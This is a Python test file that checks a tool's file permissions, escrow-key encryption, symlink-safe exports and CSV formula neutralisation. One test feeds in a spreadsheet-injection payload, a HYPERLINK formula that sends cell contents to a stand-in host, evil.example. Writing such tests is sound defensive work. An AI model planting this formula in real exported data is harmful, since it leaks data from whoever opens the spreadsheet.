"""Files Station writes, as real `station` processes started with umask 022 (what a shell usually has).

What an operator relies on: the state directory is 0700 and the database with its -wal and -shm files 0600
(outside systemd too, where no UMask= helps), and a database an earlier version left 0644 becomes 0600;
escrow keys and PIN exports are 0600; an export never writes through a symbolic link (an attacker's link to
another file is refused and that file is unchanged); an export replaces an old one whole; an escrow private
key can be encrypted with a passphrase (typed twice on a terminal, or from a file) and `pins export` opens
it, with one clear line for a wrong passphrase; a CSV export never hands a spreadsheet a formula.
"""
from __future__ import annotations

import csv
import io
import os
import pty
import select
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

from daemon_harness import kill, start_daemon, write_config

from station_emulator.entra import EntraEmulator

ENV = {k: v for k, v in os.environ.items() if not k.startswith("STATION_")}


def station(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "station.cli", *args], capture_output=True, text=True, timeout=120,
                          env={**ENV, **(env or {})}, umask=0o022, stdin=subprocess.DEVNULL)


def mode(path: Path) -> str:
    return oct(stat.S_IMODE(os.lstat(path).st_mode))


def test_the_running_daemons_state_directory_and_database_are_private(tmp_path: Path) -> None:
    fresh = tmp_path / "fresh" / "state"
    with EntraEmulator(users=2, seed=19) as emu:
        config = write_config(emu, tmp_path / "conf")
        previous = os.umask(0o022)
        try:
            daemon = start_daemon(config, env={"STATION_STORE_URL": f"sqlite:///{fresh / 'station.db'}"})
        finally:
            os.umask(previous)
        try:
            assert daemon.client().status()["v"] == 1
            db = fresh / "station.db"
            files = [db, db.with_name("station.db-wal"), db.with_name("station.db-shm")]
            assert all(f.exists() for f in files), sorted(p.name for p in fresh.iterdir())
            made = sorted(fresh.iterdir())  # the database, its -wal and -shm, the station's lock file
            assert len(made) == 4 and {f.name: mode(f) for f in made} == {f.name: "0o600" for f in made}
            assert mode(fresh) == mode(fresh.parent) == "0o700"
            assert mode(daemon.control_path.parent) == "0o750", "the socket's directory lets the control group in"
        finally:
            kill(daemon)


def test_a_command_outside_systemd_makes_its_state_private_and_exports_no_formula(tmp_path: Path) -> None:
    state = tmp_path / "home" / "state"
    env = {"STATION_STATE_DIR": str(state)}
    name = '=HYPERLINK("https://evil.example/?x="&A2,"Kim")'
    added = station("queue", "add", "--upn", "kim@contoso.com", "--name", name, env=env)
    assert added.returncode == 0, added.stderr
    assert mode(state) == mode(state.parent) == "0o700"
    assert mode(state / "station.db") == "0o600"
    exported = station("queue", "export", "--format", "csv", env=env)
    (row,) = list(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    assert row["display_name"] == "'" + name and row["upn"] == "kim@contoso.com"


def test_a_store_an_earlier_version_left_readable_is_made_private(tmp_path: Path) -> None:
    state = tmp_path / "state"
    state.mkdir()
    db = state / "station.db"
    sqlite3.connect(db).close()
    os.chmod(db, 0o644)
    listed = station("queue", "list", env={"STATION_STATE_DIR": str(state)})
    assert listed.returncode == 0, listed.stderr
    assert mode(db) == "0o600"
    assert f"{db} was mode 0644, readable by others; it is 0600 now" in listed.stderr


def test_keys_and_exports_are_private_and_never_written_through_a_link(tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    made = station("pins", "keygen", "--out", str(keys))
    assert made.returncode == 0, made.stderr
    assert mode(keys) == "0o700"
    assert mode(keys / "escrow-private.pem") == mode(keys / "escrow-public.pem") == "0o600"
    store = ["--store", f"sqlite:///{tmp_path / 'state' / 'station.db'}"]
    export = [*store, "pins", "export", "--private-key", str(keys / "escrow-private.pem"), "--format", "csv"]

    out = tmp_path / "exports" / "pins.csv"
    out.parent.mkdir()
    out.write_text("an older export\n")
    os.chmod(out, 0o644)
    written = station(*export, "--out", str(out))
    assert written.returncode == 0, written.stderr
    assert out.read_text().startswith("upn,display_name") and mode(out) == "0o600"
    assert [p.name for p in out.parent.iterdir()] == ["pins.csv"], "no temporary file is left behind"

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "exports" / "link.csv"
    link.symlink_to(victim)
    refused = station(*export, "--out", str(link))
    assert refused.returncode == 1
    assert f"station: {link} is a symbolic link" in refused.stderr, refused.stderr
    assert "Traceback" not in refused.stderr
    assert victim.read_text() == "precious\n" and link.is_symlink()


def test_a_passphrase_file_encrypts_the_key_and_opens_it_again(tmp_path: Path) -> None:
    passphrase = tmp_path / "passphrase"
    passphrase.write_text("correct horse battery staple\n")
    os.chmod(passphrase, 0o600)
    keys = tmp_path / "keys"
    made = station("pins", "keygen", "--out", str(keys), "--passphrase-file", str(passphrase))
    assert made.returncode == 0, made.stderr
    private = keys / "escrow-private.pem"
    assert private.read_bytes().startswith(b"-----BEGIN ENCRYPTED PRIVATE KEY-----")
    export = ["--store", f"sqlite:///{tmp_path / 'station.db'}", "pins", "export", "--private-key", str(private)]

    opened = station(*export, "--passphrase-file", str(passphrase))
    assert opened.returncode == 0, opened.stderr
    assert opened.stdout.startswith("upn,display_name")

    wrong = tmp_path / "wrong"
    wrong.write_text("incorrect horse\n")
    os.chmod(wrong, 0o600)
    refused = station(*export, "--passphrase-file", str(wrong))
    assert refused.returncode == 1 and refused.stdout == ""
    assert refused.stderr.splitlines()[0] == "station: the passphrase does not open the escrow private key"
    assert "Traceback" not in refused.stderr

    no_terminal = station(*export)
    assert no_terminal.returncode == 1
    assert "standard input is not one" in no_terminal.stderr and "--passphrase-file" in no_terminal.stderr


def on_terminal(args: list[str], answers: list[str], timeout: float = 60.0) -> tuple[int, str]:
    """Run ``station ARGS`` on a pseudo-terminal, typing each answer after the next prompt for it."""
    pid, fd = pty.fork()
    if pid == 0:
        os.umask(0o022)
        os.execve(sys.executable, [sys.executable, "-m", "station.cli", *args], ENV)
    output, pending, answered = b"", list(answers), 0
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if not select.select([fd], [], [], 1.0)[0]:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the terminal's other end closed: the command has finished
            break
        if not chunk:
            break
        output += chunk
        if pending and output[answered:].rstrip().endswith(b":"):
            os.write(fd, pending.pop(0).encode() + b"\n")
            answered = len(output)
    else:
        os.kill(pid, 9)
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(status), output.decode(errors="replace")


def test_a_passphrase_typed_twice_on_a_terminal_encrypts_the_key(tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    code, shown = on_terminal(["pins", "keygen", "--out", str(keys), "--passphrase"], ["tr0ub4dor", "tr0ub4dor"])
    assert code == 0, shown
    private = keys / "escrow-private.pem"
    assert private.read_bytes().startswith(b"-----BEGIN ENCRYPTED PRIVATE KEY-----")
    assert "tr0ub4dor" not in shown, "the passphrase is not echoed"
    export = ["--store", f"sqlite:///{tmp_path / 'station.db'}", "pins", "export", "--private-key", str(private)]
    code, shown = on_terminal(export, ["tr0ub4dor"])
    assert code == 0 and "upn,display_name" in shown, shown

    code, shown = on_terminal(["pins", "keygen", "--out", str(tmp_path / "other"), "--passphrase"],
                              ["first", "second"])
    assert code == 1 and "the two passphrases differ; no key was written" in shown
    assert not (tmp_path / "other" / "escrow-private.pem").exists()


def test_the_kiosk_log_is_private(tmp_path: Path) -> None:
    log = tmp_path / "state" / "kiosk.log"
    code = ("import logging, sys; from pathlib import Path; from station.tui.log_capture import file_handler; "
            "h = file_handler(Path(sys.argv[1])); logging.getLogger().addHandler(h); logging.warning('hello')")
    subprocess.run([sys.executable, "-c", code, str(log)], check=True, umask=0o022, env=ENV, timeout=60)
    assert "hello" in log.read_text()
    assert mode(log) == "0o600" and mode(log.parent) == "0o700"
    os.chmod(log, 0o644)  # as an earlier version left it
    subprocess.run([sys.executable, "-c", code, str(log)], check=True, umask=0o022, env=ENV, timeout=60)
    assert mode(log) == "0o600" and log.read_text().count("hello") == 2
